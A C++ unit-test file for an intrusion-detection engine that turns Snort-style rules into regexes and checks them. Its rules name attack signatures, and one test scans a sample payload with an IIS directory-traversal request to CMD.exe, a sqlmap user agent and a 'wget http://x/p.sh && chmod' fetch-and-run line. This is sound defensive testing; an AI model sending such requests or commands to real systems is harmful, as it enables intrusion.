#include "rules/rules.h"

#include <gtest/gtest.h>

#include "engine_test_util.h"
#include "mfa/mfa.h"

namespace mfa::rules {
namespace {

TEST(ContentToRegex, PlainText) {
  EXPECT_EQ(*content_to_regex("abc", false), "abc");
}

TEST(ContentToRegex, EscapesMetacharacters) {
  EXPECT_EQ(*content_to_regex("cmd.exe", false), "cmd\\.exe");
  EXPECT_EQ(*content_to_regex("a(b)c", false), "a\\(b\\)c");
  EXPECT_EQ(*content_to_regex("x*y+z?", false), "x\\*y\\+z\\?");
}

TEST(ContentToRegex, HexSections) {
  EXPECT_EQ(*content_to_regex("|0d 0a|end", false), "\\x0d\\x0aend");
  EXPECT_EQ(*content_to_regex("ab|20|cd", false), "ab cd");
  EXPECT_EQ(*content_to_regex("|41 42|", false), "AB");
}

TEST(ContentToRegex, NocaseFoldsPerCharacter) {
  EXPECT_EQ(*content_to_regex("Ab1", true), "[aA][bB]1");
}

TEST(ContentToRegex, Failures) {
  EXPECT_FALSE(content_to_regex("", false).has_value());
  EXPECT_FALSE(content_to_regex("|0d", false).has_value());     // unterminated
  EXPECT_FALSE(content_to_regex("|xq|", false).has_value());    // bad hex
  EXPECT_FALSE(content_to_regex("|0|", false).has_value());     // odd digits
}

constexpr const char* kRuleText = R"(
# Community web rules (excerpt)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-IIS cmd.exe access"; content:"cmd.exe"; nocase; sid:1002; rev:7;)
alert tcp any any -> any 80 (msg:"chained download"; content:"wget "; content:"chmod"; sid:2001;)
alert tcp any any -> any any (msg:"pcre rule"; pcre:"/.*User-Agent:[^\r\n]*sqlmap/"; sid:3001; classtype:web-application-attack;)

alert udp any any -> any 53 (msg:"hex content"; content:"|03|www|07|"; sid:4001;)
alert tcp any any -> any 25 (msg:"continued \
rule"; content:"MAIL FROM"; sid:5001;)
)";

TEST(Rules, ParsesWellFormedRules) {
  const LoadResult r = parse_rules(kRuleText);
  ASSERT_TRUE(r.ok()) << (r.errors.empty() ? "" : r.errors[0].message);
  ASSERT_EQ(r.rules.size(), 5u);
  EXPECT_EQ(r.rules[0].sid, 1002u);
  EXPECT_EQ(r.rules[0].msg, "WEB-IIS cmd.exe access");
  EXPECT_EQ(r.rules[0].action, "alert");
  EXPECT_EQ(r.rules[0].proto, "tcp");
  EXPECT_EQ(r.rules[0].pattern, ".*[cC][mM][dD]\\.[eE][xX][eE]");
  EXPECT_EQ(r.rules[1].pattern, ".*wget .*chmod");
  EXPECT_EQ(r.rules[2].pattern, "/.*User-Agent:[^\\r\\n]*sqlmap/");
  EXPECT_EQ(r.rules[3].pattern, ".*\\x03www\\x07");
  EXPECT_EQ(r.rules[4].sid, 5001u);
}

TEST(Rules, BadRulesReportedAndSkipped) {
  const LoadResult r = parse_rules(
      "alert tcp any any -> any any (msg:\"no sid\"; content:\"x\";)\n"
      "alert tcp any any -> any any (msg:\"no body content\"; sid:7;)\n"
      "not even a rule at all\n"
      "alert tcp any any -> any any (msg:\"good\"; content:\"ok\"; sid:8;)\n"
      "alert tcp any any -> any any (msg:\"bad pcre\"; pcre:\"/a(/\"; sid:9;)\n");
  EXPECT_EQ(r.rules.size(), 1u);
  EXPECT_EQ(r.rules[0].sid, 8u);
  EXPECT_EQ(r.errors.size(), 4u);
  for (const auto& e : r.errors) EXPECT_GT(e.line, 0u);
}

TEST(Rules, OrphanNocaseIsDiagnosed) {
  // nocase before any content used to be dropped silently, leaving a
  // case-sensitive rule the author believed was case-insensitive.
  const LoadResult r = parse_rules(
      "# leading comment\n"
      "alert tcp any any -> any any (msg:\"orphan\"; nocase; content:\"x\"; sid:11;)\n"
      "alert tcp any any -> any any (msg:\"fine\"; content:\"y\"; nocase; sid:12;)\n");
  ASSERT_EQ(r.rules.size(), 1u);
  EXPECT_EQ(r.rules[0].sid, 12u);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_EQ(r.errors[0].line, 2u);
  EXPECT_NE(r.errors[0].message.find("nocase"), std::string::npos);
}

TEST(Rules, DuplicatePcreIsDiagnosed) {
  // A second pcre used to overwrite the first silently.
  const LoadResult r = parse_rules(
      "alert tcp any any -> any any (msg:\"dup\"; pcre:\"/abc/\"; "
      "pcre:\"/def/\"; sid:21;)\n"
      "alert tcp any any -> any any (msg:\"single\"; pcre:\"/ghi/\"; sid:22;)\n");
  ASSERT_EQ(r.rules.size(), 1u);
  EXPECT_EQ(r.rules[0].sid, 22u);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_EQ(r.errors[0].line, 1u);
  EXPECT_NE(r.errors[0].message.find("pcre"), std::string::npos);
}

// Compile `pattern` alone and scan `input`, returning the match count.
std::size_t match_count(const std::string& pattern, const std::string& input) {
  regex::ParseResult parsed = regex::parse(pattern);
  if (!parsed.ok()) {
    ADD_FAILURE() << "pattern does not parse: " << pattern;
    return 0;
  }
  auto mfa = core::build_mfa({nfa::PatternInput{*parsed.regex, 1}});
  if (!mfa) {
    ADD_FAILURE() << "mfa build failed: " << pattern;
    return 0;
  }
  Scanner scanner(*mfa);
  return scanner.scan(input).size();
}

TEST(ContentToRegex, HexMetacharactersMatchLiterally) {
  // |2e 2a| is the two literal bytes ".*", not "any run of anything".
  const auto re = content_to_regex("|2e 2a|", false);
  ASSERT_TRUE(re.has_value());
  EXPECT_EQ(match_count(".*" + *re, "payload .* here"), 1u);
  EXPECT_EQ(match_count(".*" + *re, "no dotstar bytes"), 0u);
  // Same under nocase: folding must not unescape metacharacters.
  const auto folded = content_to_regex("|2e 2a|", true);
  ASSERT_TRUE(folded.has_value());
  EXPECT_EQ(match_count(".*" + *folded, "payload .* here"), 1u);
  EXPECT_EQ(match_count(".*" + *folded, "no dotstar bytes"), 0u);
}

TEST(ContentToRegex, AllByteValuesRoundTripThroughHexPath) {
  // Every byte delivered via |hex| must compile and match exactly itself
  // (its case pair under nocase, for ASCII letters only).
  for (int b = 0; b < 256; ++b) {
    char hex[16];
    std::snprintf(hex, sizeof hex, "|%02x|", b);
    for (const bool nocase : {false, true}) {
      const auto re = content_to_regex(hex, nocase);
      ASSERT_TRUE(re.has_value()) << b;
      const std::string self(1, static_cast<char>(b));
      EXPECT_EQ(match_count(*re, self), 1u) << "byte " << b << " nocase " << nocase;
      const bool upper = b >= 'A' && b <= 'Z';
      const bool lower = b >= 'a' && b <= 'z';
      if (upper || lower) {
        const std::string other(1, static_cast<char>(upper ? b + 32 : b - 32));
        EXPECT_EQ(match_count(*re, other), nocase ? 1u : 0u)
            << "byte " << b << " nocase " << nocase;
      } else if (b != static_cast<int>(static_cast<unsigned char>('\n'))) {
        // A different byte must never match (newline skipped: '.'-free
        // single-byte patterns still never equal it anyway).
        const std::string other(1, static_cast<char>(b ^ 1));
        EXPECT_EQ(match_count(*re, other), 0u) << "byte " << b;
      }
    }
  }
}

TEST(ContentToRegex, AllByteValuesRoundTripThroughTextPath) {
  // Same sweep through the text path. '|' is excluded (it opens a hex
  // section in the content syntax — deliver it as |7c| instead).
  for (int b = 1; b < 256; ++b) {
    if (b == '|') continue;
    const std::string content(1, static_cast<char>(b));
    for (const bool nocase : {false, true}) {
      const auto re = content_to_regex(content, nocase);
      ASSERT_TRUE(re.has_value()) << b;
      const std::string self(1, static_cast<char>(b));
      EXPECT_EQ(match_count(*re, self), 1u) << "byte " << b << " nocase " << nocase;
      const bool upper = b >= 'A' && b <= 'Z';
      const bool lower = b >= 'a' && b <= 'z';
      if (upper || lower) {
        const std::string other(1, static_cast<char>(upper ? b + 32 : b - 32));
        EXPECT_EQ(match_count(*re, other), nocase ? 1u : 0u)
            << "byte " << b << " nocase " << nocase;
      }
    }
  }
}

TEST(Rules, CommentsAndBlankLinesIgnored) {
  const LoadResult r = parse_rules("\n# comment\n   \n#another\n");
  EXPECT_TRUE(r.rules.empty());
  EXPECT_TRUE(r.errors.empty());
}

TEST(Rules, EscapedQuoteInsideMsg) {
  const LoadResult r = parse_rules(
      "alert tcp any any -> any any (msg:\"say \\\"hi\\\"; now\"; content:\"x\"; sid:1;)\n");
  ASSERT_EQ(r.rules.size(), 1u);
  EXPECT_EQ(r.rules[0].msg, "say \"hi\"; now");
}

TEST(Rules, MissingFileIsOneError) {
  const LoadResult r = load_rules_file("/nonexistent/rules.rules");
  EXPECT_TRUE(r.rules.empty());
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_EQ(r.errors[0].line, 0u);
}

TEST(Rules, RoundTripThroughFile) {
  const std::string path = ::testing::TempDir() + "/mfa_rules_test.rules";
  std::FILE* f = std::fopen(path.c_str(), "wb");
  ASSERT_NE(f, nullptr);
  std::fputs(kRuleText, f);
  std::fclose(f);
  const LoadResult r = load_rules_file(path);
  EXPECT_EQ(r.rules.size(), 5u);
  std::remove(path.c_str());
}

TEST(Rules, EndToEndThroughMfa) {
  // Compile loaded rules into an MFA and confirm sid-keyed alerts.
  const LoadResult r = parse_rules(kRuleText);
  ASSERT_EQ(r.rules.size(), 5u);
  auto mfa = core::build_mfa(to_pattern_inputs(r.rules));
  ASSERT_TRUE(mfa.has_value());
  Scanner scanner(*mfa);
  const std::string payload =
      "GET /scripts/..%255c../winnt/system32/CMD.exe?/c+dir HTTP/1.0\r\n"
      "User-Agent: sqlmap/1.2\r\n\r\n"
      "wget http://x/p.sh && chmod 755 p.sh";
  const MatchVec matches = mfa::testing::sorted(scanner.scan(payload));
  std::set<std::uint32_t> sids;
  for (const Match& m : matches) sids.insert(m.id);
  EXPECT_TRUE(sids.count(1002));  // CMD.exe, nocase
  EXPECT_TRUE(sids.count(2001));  // wget ... chmod
  EXPECT_TRUE(sids.count(3001));  // sqlmap UA
  EXPECT_FALSE(sids.count(4001));
}

TEST(Rules, ToPatternInputsUsesSids) {
  const LoadResult r = parse_rules(kRuleText);
  const auto inputs = to_pattern_inputs(r.rules);
  ASSERT_EQ(inputs.size(), r.rules.size());
  EXPECT_EQ(inputs[0].id, 1002u);
  EXPECT_EQ(inputs[2].id, 3001u);
}

}  // namespace
}  // namespace mfa::rules
